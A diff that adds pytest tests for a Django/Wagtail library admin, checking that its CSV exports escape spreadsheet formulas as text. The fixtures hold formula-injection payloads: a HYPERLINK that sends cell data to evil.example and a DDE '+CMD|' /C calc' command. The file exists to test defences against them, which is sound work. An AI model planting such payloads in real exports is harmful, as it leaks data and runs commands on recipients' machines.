@@ -1,10 +1,14 @@
 """The library in the Wagtail admin: editors follow contributions and reader feedback."""
 
+import csv
+import io
+
 from django.urls import reverse
 
 import pytest
 
-from library.services import GuideDraft, contribution_create
+from library.services import GuideDraft, contribution_create, feedback_submit
+from tests.library.factories import GuideFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -46,3 +50,48 @@ def test_the_reject_action_is_offered_to_editors_only(citizen, editor, topic):
 
 def test_a_new_library_index_enters_the_review_workflow(library):
     assert library.get_workflow().name == "Library contributions"
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+
+
+def exported_rows(client, url: str) -> list[list[str]]:
+    response = client.get(url, {"export": "csv"})
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    body = b"".join(response.streaming_content).decode()
+    return list(csv.reader(io.StringIO(body)))
+
+
+def test_the_contributions_export_keeps_a_contributors_formula_as_text(
+    client, citizen, editor, topic
+):
+    citizen.profile.display_name = "@SUM(1+1)"
+    citizen.profile.save()
+    contribution_create(
+        user=citizen,
+        topic=topic,
+        draft=GuideDraft(title=HOSTILE, summary="Коротко", steps=(("Крок", "Так"),)),
+    )
+    client.force_login(editor)
+
+    _heading, row = exported_rows(client, reverse("library_admin:contributions"))
+
+    assert row[0] == f"'{HOSTILE}"
+    assert row[1] == "'@SUM(1+1)"
+
+
+def test_the_feedback_exports_keep_a_readers_comment_and_a_title_as_text(
+    client, citizen, editor, topic
+):
+    page = GuideFactory(parent=topic, title="+CMD|' /C calc'!A0")
+    feedback_submit(page=page, useful=True, comment="-1+2, і ще", user=citizen)
+    client.force_login(editor)
+
+    _heading, stats = exported_rows(client, reverse("library_admin:feedback"))
+    _heading, comment = exported_rows(client, reverse("library_admin:comments"))
+
+    assert stats[0] == "'+CMD|' /C calc'!A0"
+    assert stats[1] == "1"  # numbers stay numbers
+    assert comment[0] == "'+CMD|' /C calc'!A0"
+    assert comment[2] == "'-1+2, і ще"
